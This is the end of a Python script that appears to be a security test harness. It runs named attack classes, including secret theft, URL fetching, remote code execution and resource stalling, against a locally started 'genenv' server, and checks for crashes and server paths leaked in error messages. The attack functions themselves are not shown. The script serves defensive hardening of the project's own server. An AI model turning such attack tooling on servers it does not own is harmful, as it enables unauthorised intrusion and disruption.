    }


ATTACKS = {
    "amplify": attack_amplify,
    "curriculum": attack_curriculum,
    "sessions": attack_sessions,
    "small": attack_small,
    "addresses": attack_addresses,
    "errors": attack_errors,
    "protocol": attack_protocol,
    "secret": attack_secret,
    "url_fetch": attack_url_fetch,
    "remote_code": attack_remote_code,
    "file_split": attack_file_split,
    "file_task": attack_file_task,
    "global_filler": attack_global_filler,
    "stall": attack_stall,  # last: on a server without a hard stop it leaves work running for minutes
}


def leaks(found: dict[str, Any], paths: list[str]) -> list[str]:
    """The server paths named in a class's error messages."""
    text = json.dumps(found.get("messages", []))
    return sorted({p for p in paths if p and p in text})


def main() -> int:
    from genenv_gym.datasets.data_dir import data_root

    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument(
        "--data-dir", default=str(data_root()), help="default: $GENENV_DATA_DIR, else the fetch dir"
    )
    parser.add_argument("--server-pythonpath", default=None)
    parser.add_argument("--server-arg", action="append", default=[], help="an extra `genenv serve` argument")
    parser.add_argument("--only", nargs="+", choices=sorted(ATTACKS), default=None)
    parser.add_argument("--stall-cap", type=float, default=180.0, help="seconds an attack request may take")
    parser.add_argument("--slow-cap", type=float, default=40.0, help="seconds a slow connection is fed")
    parser.add_argument("--json", default=None)
    args = parser.parse_args()
    os.environ["GENENV_DATA_DIR"] = str(Path(args.data_dir).resolve())
    results: dict[str, Any] = {}
    with tempfile.TemporaryDirectory(prefix="genenv-attack-") as folder:
        planted = Path(folder)
        plant(planted)
        server = Server(os.environ["GENENV_DATA_DIR"], args.server_pythonpath, args.server_arg)
        # the server's own paths (the planted folder is the attacker's input: its echo is no leak)
        server_paths = [os.environ["GENENV_DATA_DIR"], str(Path.home()), str(Path.cwd()), sys.prefix]
        try:
            for name in args.only or list(ATTACKS):
                attack = ATTACKS[name]
                start = time.monotonic()
                extra = (
                    {"cap_s": args.stall_cap}
                    if name == "stall"
                    else {"cap_s": args.slow_cap}
                    if name == "protocol"
                    else {}
                )
                try:
                    found = attack(server, planted, **extra)
                except Exception as error:
                    found = {"failed": f"{type(error).__name__}: {error}"}
                found["paths_in_messages"] = leaks(found, server_paths)
                found["server_alive"] = server.alive()
                found["seconds"] = round(time.monotonic() - start, 1)
                found.pop("messages", None)
                results[name] = found
                print(json.dumps({"class": name, **found}), flush=True)
                if not server.alive():
                    server = Server(os.environ["GENENV_DATA_DIR"], args.server_pythonpath, args.server_arg)
        finally:
            server.stop()
    if args.json:
        Path(args.json).write_text(json.dumps(results, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
